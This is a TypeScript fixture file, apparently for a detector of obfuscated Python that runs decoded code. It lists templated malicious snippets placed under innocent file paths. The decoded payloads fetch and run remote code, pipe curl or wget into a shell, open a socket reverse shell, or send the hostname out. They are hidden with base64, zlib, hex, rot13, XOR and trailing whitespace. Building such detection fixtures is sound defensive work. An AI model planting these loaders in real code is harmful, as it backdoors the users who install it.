// Python that runs what it decodes first: base64, zlib, hex and the like.
import type { Family } from './family.ts'

export const decodedExecPython: readonly Family[] = [
  {
    family: 'python-exec-base64',
    positive: true,
    classes: ['decoded-exec'],
    variants: [
      {
        paths: ['tidyterm/ansi.py', 'src/reporting/summary.py'],
        imports: `import base64`,
        body: `exec(base64.b64decode("⟦b64:import urllib.request as u;exec(u.urlopen('http://⟦join⟧
⟦ip⟧:⟦port⟧/s').read())⟧").decode("utf-8"))`,
      },
    ],
  },
  {
    family: 'python-exec-zlib-marshal',
    positive: true,
    classes: ['decoded-exec', 'obfuscation'],
    variants: [
      {
        paths: ['pycolor/__init__.py'],
        imports: `import marshal, zlib, base64`,
        body: `exec(marshal.loads(zlib.decompress(base64.b64decode(b'⟦blob:420⟧'))))`,
      },
      {
        paths: ['lib/loader.py'],
        body: `_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(_⟦join⟧
_[::-1]));
exec((_)(b'⟦reversed:⟦zlib:import os⟦line⟧os.system("curl -s http://⟦ip⟧/n | python3 -")⟧⟧'))`,
      },
    ],
  },
  {
    family: 'python-compile-hex',
    positive: true,
    classes: ['decoded-exec'],
    variants: [
      {
        paths: ['utils/compat.py', 'pkg/version.py'],
        body: `def _bootstrap():
    stage = bytes.fromhex(
        "⟦hexed:import socket,subprocess;s=socket.create_connection(('⟦ip⟧',⟦port⟧))⟧"
        "⟦hexed:;subprocess.Popen(['sh'],stdin=s,stdout=s)⟧"
    )
    code = compile(stage, "<string>", "exec")
    exec(code, {"__name__": "__main__"})


_bootstrap()`,
      },
    ],
  },
  {
    family: 'python-builtins-getattr',
    positive: true,
    classes: ['decoded-exec', 'obfuscation'],
    variants: [
      {
        paths: ['discord_tools/client.py'],
        imports: `import builtins, codecs`,
        body: `# do not remove, needed on python 3.7
_k = getattr(builtins, 'e' + 'x' + 'ec')
_k(codecs.decode('⟦rot13:import urllib.request;exec(urllib.request.urlopen("http://⟦host⟧/init.txt⟦join⟧
").read())⟧', 'rot13'))`,
      },
      {
        paths: ['discord_tools/gateway.py'],
        body: `__builtins__.__dict__[bytes([101, 120, 101, 99]).decode()](
    ''.join(chr(c ^ 23) for c in [⟦xor:import os;os.popen("wget -qO- http://⟦ip⟧/b|sh")⟧])
)`,
      },
    ],
  },
  {
    family: 'python-exec-trailing-spaces',
    positive: true,
    classes: ['decoded-exec'],
    variants: [
      {
        paths: ['requestz/sessions.py'],
        body: `SESSION_TIMEOUT = 30⟦space:400⟧;__import__('builtins').exec(__import__('base64⟦join⟧
').b64decode('⟦b64:from tempfile import NamedTemporaryFile as f⟦line⟧t=f(delete=False);t.write(b"f⟦join⟧
rom urllib.request import urlopen as u;exec(u('http://⟦host⟧/inj').read())");t.close()⟧'))`,
      },
    ],
  },
  {
    family: 'python-fernet-exec',
    positive: true,
    classes: ['decoded-exec', 'obfuscation'],
    variants: [
      {
        paths: ['setup_helpers/install.py'],
        body: `from fernet import Fernet

exec(Fernet(b'⟦alnum:43⟧=').decrypt(b'gAAAAAB⟦alnum:180⟧=='))`,
      },
    ],
  },
  {
    family: 'python-pickled-globals',
    positive: true,
    classes: ['decoded-exec'],
    variants: [
      {
        paths: ['core/plugins.py'],
        imports: `import binascii
import types`,
        body: `def _lazy(blob):
    raw = binascii.unhexlify(blob)
    types.FunctionType(compile(raw, "lazy", "exec"), globals())()


_lazy(b"⟦hexed:import platform,urllib.request as r;r.urlopen('https://⟦host⟧/p?h='+platform.node())⟧")`,
      },
    ],
  },
]
